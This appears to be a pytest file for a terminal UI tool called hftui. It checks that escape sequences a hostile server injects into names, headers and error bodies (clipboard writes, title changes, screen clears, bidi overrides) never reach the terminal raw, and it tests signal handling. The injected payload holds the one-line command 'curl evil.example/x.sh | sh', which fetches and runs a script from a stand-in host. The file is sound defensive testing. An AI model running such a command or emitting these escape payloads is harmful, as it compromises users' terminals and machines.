"""The terminal, byte for byte: what a hostile server says never reaches it as a control sequence (no
OSC 52 clipboard write, no OSC 0 title, no clear screen, no fake line), what hftui copies (OSC 52) holds
no token, SIGTERM gives the terminal back, and ctrl+c never ends in a traceback."""

from __future__ import annotations

import base64
import json
import re
import signal
import time

import pytest
from helpers import leaked_forms
from hhelpers import PLANTED
from hostile_server import MODEL, REPO, USER, json_answer, respond
from ptyrun import ALT_SCREEN_OFF, ALT_SCREEN_ON, MOUSE_OFF, PtyRun

EVIL = "curl evil.example/x.sh | sh"
EVIL_OSC52 = "\x1b]52;c;" + base64.b64encode(EVIL.encode()).decode() + "\x07"
HOSTILE = f"{EVIL_OSC52}\x1b]0;owned\x07\x1b[2J\r\nFAKE-VERDICT ▶ Everything works [ok]\u202egnp.exe[bold]b[/]"
C1 = "\x9b2J\x9d0;owned\x9c"  # 8-bit CSI and OSC: all a header value or a reason phrase can carry
DOWN, SPACE = b"\x1b[B", b" "


def hostile_routes():
    user = {**USER, "name": "ada" + HOSTILE, "fullname": HOSTILE,
            "orgs": [{"name": "acme" + HOSTILE}, {"name": "[@click=app.quit]x[/]"}],
            "auth": {"accessToken": {"displayName": HOSTILE, "role": "write"}}}
    catalog = {"data": [{"id": REPO, "providers": [{"provider": "together", "status": "live"},
                                                   {"provider": "evil" + HOSTILE, "status": "live"}]}]}
    mapping = {"id": REPO, "inferenceProviderMapping": {"evil" + HOSTILE: {"status": "live", "task": "conversational"},
                                                        "together": {"status": "live", "task": "conversational"}}}
    chat = respond(429, ("Too Many " + C1).encode("latin-1"),
                   [("content-type", "application/json"), ("x-inference-provider", ("together" + C1).encode("latin-1")),
                    ("retry-after", ("30" + C1).encode("latin-1")), ("x-" + C1.encode("latin-1").hex(), "1")],
                   json.dumps({"error": HOSTILE}).encode())
    return {"whoami": lambda r: json_answer(user), "catalog": lambda r: json_answer(catalog),
            "mapping": lambda r: json_answer(mapping), "chat": lambda r: chat}


def osc_sequences(stream: bytes) -> list[tuple[bytes, bytes]]:
    """(number, payload) of every OSC sequence in the stream."""
    return re.findall(rb"\x1b\](\d+);(.*?)(?:\x07|\x1b\\)", stream, re.DOTALL)


def assert_inert_terminal_stream(stream: bytes, token: str) -> None:
    assert b"\x1b[2J" not in stream, "a clear-screen reached the terminal"
    for number, payload in osc_sequences(stream):
        assert number in (b"22", b"52"), f"OSC {number!r} reached the terminal"  # 22: Textual's pointer shape
        if number == b"52":
            copied = base64.b64decode(payload.split(b";", 1)[1]).decode()
            assert copied != EVIL and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", copied)
            assert not leaked_forms(copied, [token]), "the clipboard payload holds the token"
    assert "\u202e".encode() not in stream and "\x9b".encode() not in stream and "\x9d".encode() not in stream
    for match in re.finditer(rb"FAKE-VERDICT", stream):
        assert stream[match.start() - 1:match.start()] not in (b"\n", b"\r"), "a fake line started"
    text = stream.decode(errors="replace")
    assert not leaked_forms(text, [token]), "the screen shows the token"


def test_nothing_a_hostile_server_sends_reaches_the_terminal_and_the_clipboard_holds_no_token(hostile):
    server = hostile(hostile_routes())
    run = PtyRun("--hub-url", server.url, "--router-url", server.url, "--model", MODEL, "--timeout", "5",
                 env={"HF_TOKEN": PLANTED, "HFTUI_NO_KEYRING": "1"})
    try:
        run.wait_for(b"rate_limited: Rate limited", "the plan finished (the top bar names the verdict)")
        run.type(b"3c")  # the step tree, on its first step: copy it as curl
        run.wait_for(b"as curl", "the curl copy is announced")
        for _ in range(80):  # expand what can be expanded, line by line: requests, responses, headers, bodies
            run.type(SPACE + DOWN)  # space expands a node (enter opens the evidence viewer)
        run.type(b"b")
        run.wait_for(b"Copied the support bundle", "the bundle copy is announced")
        run.type(b"\x10")  # ctrl+p: the palette, with org and provider entries
        time.sleep(0.5)
        run.type(b"bill to")
        run.wait_for(b"set to this org", "the palette lists the orgs")
        run.type(b"\x1b")
        time.sleep(0.5)
        run.type(b"q")
        assert run.wait() == 0
    finally:
        run.close()
    stream = run.bytes
    assert_inert_terminal_stream(stream, PLANTED)
    assert stream.count(b"\x1b]52;") == 2, "both copies reached the terminal (and nothing else used OSC 52)"
    assert b"\\x1b]52;c;" in stream, "the server's sequence is shown, as text"


def test_the_hostile_server_demo_is_inert_in_a_real_terminal():
    from hftui.sim import get_scenario

    run = PtyRun("demo", "hostile-server", env={"HFTUI_NO_KEYRING": "1"})
    try:
        run.wait_for(b"provider_outage: The provider is failing", "the plan finished (the top bar names the verdict)")
        run.type(b"b")
        run.wait_for(b"Copied the support bundle", "the bundle copy is announced")
        run.type(b"q")
        assert run.wait() == 0
    finally:
        run.close()
    assert_inert_terminal_stream(run.bytes, get_scenario("hostile-server").client_token)


def test_sigterm_gives_the_terminal_back():
    run = PtyRun("demo", "ok", env={"HFTUI_NO_KEYRING": "1"})
    try:
        run.wait_for(b"Everything works", "the verdict is drawn")
        signalled = len(run.bytes)
        run.signal(signal.SIGTERM)
        code = run.wait()
    finally:
        run.close()
    after = run.bytes[signalled:]
    assert code == 128 + signal.SIGTERM
    assert ALT_SCREEN_OFF in after and MOUSE_OFF in after, after[-500:]
    assert b"Traceback" not in run.bytes


def own_traceback(output: bytes) -> bool:
    """A traceback through hftui's own code. The interpreter's start-up before any of it runs (site, .pth
    files: the first ~20-150 ms, longer on a loaded machine) is Python's, and can end in one of its own."""
    return any(b"/hftui/" in part.split(b"KeyboardInterrupt", 1)[0] for part in output.split(b"Traceback")[1:])


# From the interpreter's start to the app's first frame and beyond (the app starts in ~1-2 s here).
DELAYS = [0.05, 0.15, 0.3, 0.5, 0.7, 0.9, 1.1, 1.3, 1.5, 1.8, 2.2, 3.0]


@pytest.mark.parametrize("delay", DELAYS)
def test_ctrl_c_at_any_moment_of_the_app_ends_without_a_traceback_or_a_hang(delay):
    run = PtyRun("demo", "slow-hub", env={"HFTUI_NO_KEYRING": "1"})
    try:
        time.sleep(delay)
        run.signal(signal.SIGINT)  # what ctrl+c is before Textual puts the terminal in raw mode
        time.sleep(1)
        if run.process.poll() is None:  # in raw mode ctrl+c is a key, not a signal: quit as a user would
            run.type(b"q")
        code = run.wait()  # a hang fails here
    finally:
        run.close()
    stream = run.bytes
    assert not own_traceback(stream), stream[-3000:]
    if code in (130, -signal.SIGINT):  # -2: Python's own exit after a KeyboardInterrupt; a shell shows 130 too
        assert b"hftui: interrupted" in stream or ALT_SCREEN_ON in stream
    if ALT_SCREEN_ON in stream:
        assert stream.rfind(ALT_SCREEN_OFF) > stream.rfind(ALT_SCREEN_ON), "the alternate screen was left on"


@pytest.mark.parametrize("delay", [0.05, 0.2, 0.4, 0.6, 0.8, 1.0, 1.3, 1.7])
def test_ctrl_c_at_any_moment_of_diagnose_is_one_line_and_130(delay):
    run = PtyRun("diagnose", "--sim", "slow-hub", "--timeout", "20", env={"HFTUI_NO_KEYRING": "1"})
    try:
        time.sleep(delay)
        run.signal(signal.SIGINT)
        code = run.wait()
    finally:
        run.close()
    stream = run.bytes
    assert not own_traceback(stream), stream[-3000:]
    assert code in (0, 1, 130, -signal.SIGINT), code  # 0/1: it finished first
    if code == 130:
        assert stream.rstrip().endswith(b"hftui: interrupted"), stream[-500:]
